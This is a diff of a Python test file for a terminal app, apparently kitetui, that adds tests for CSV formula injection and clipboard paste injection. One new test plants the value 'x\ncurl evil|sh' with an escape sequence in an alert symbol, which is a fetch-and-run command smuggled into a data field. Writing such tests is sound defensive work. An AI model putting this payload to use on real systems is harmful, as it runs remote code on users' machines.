@@ -13,8 +13,10 @@ import pytest
 from kitetui.app import KiteApp
 from kitetui.settings import Settings
 from kitetui.takeout import KEPT, Takeout
+from kitetui.widgets.safe_text import clean
 from kitetui.widgets.watchlist import Watchlist
 from tests.links import MarketLink
+from tests.widgets import views
 
 
 @pytest.fixture
@@ -111,7 +113,18 @@ async def test_what_cannot_be_saved_is_said(settings: Settings, tmp_path: Path) 
 def test_no_cell_is_a_formula_and_numbers_stay_numbers(tmp_path: Path, evil: str) -> None:
     path = Takeout(tmp_path / "taken").table("x", "1", ("A", "B"), [(evil, "+0.82"), (-3, "-5.9K")])
     rows = list(csv.reader(path.open(newline="")))
-    assert rows[1] == [f"'{evil}", "+0.82"] and rows[2] == ["-3", "-5.9K"]
+    assert rows[1] == [f"'{clean(evil)}", "+0.82"] and rows[2] == ["-3", "-5.9K"]
+
+
+async def test_what_is_copied_carries_no_key_press(app: KiteApp) -> None:
+    """A name with a line's end, pasted into a shell, would run."""
+    link: MarketLink = app.link  # type: ignore[assignment]
+    evil = msgspec.structs.replace(views.alert(0), symbol="x\ncurl evil|sh\n\x1b[A")
+    link.picture = msgspec.structs.replace(link.picture, alerts=(evil,))
+    sent, _ = await written(app, ["6", "y", "Y"])
+    line, pane = clips(sent)
+    assert line.count("\n") == 1 and line.splitlines()[1].startswith("kitetui explain ")
+    assert "\x1b" not in line + pane and "curl evil|sh\n" not in pane
 
 
 def test_old_files_leave(tmp_path: Path) -> None:
